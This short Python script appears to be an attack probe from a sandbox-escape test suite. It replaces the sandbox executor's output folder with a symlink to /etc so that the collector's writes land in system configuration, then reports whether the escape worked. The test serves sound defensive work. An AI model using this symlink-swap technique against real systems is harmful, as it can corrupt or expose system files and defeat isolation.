"""Wants the collector in a folder of its choice: swaps its output folder for a link to /etc."""

import os
from collections.abc import Callable


def attack(ready: Callable[[dict[str, object]], object]) -> dict[str, object]:
    out = os.environ["SANDBOX_EXEC_OUT"]
    ready({})
    try:
        os.rename(out, out + ".gone")
        os.symlink("/etc", out)
    except OSError as error:
        return {"escaped": False, "detail": str(error.strerror)}
    return {"escaped": True, "detail": "its output folder is a link to /etc"}


if __name__ == "__main__":
    __import__("_common").command(attack)
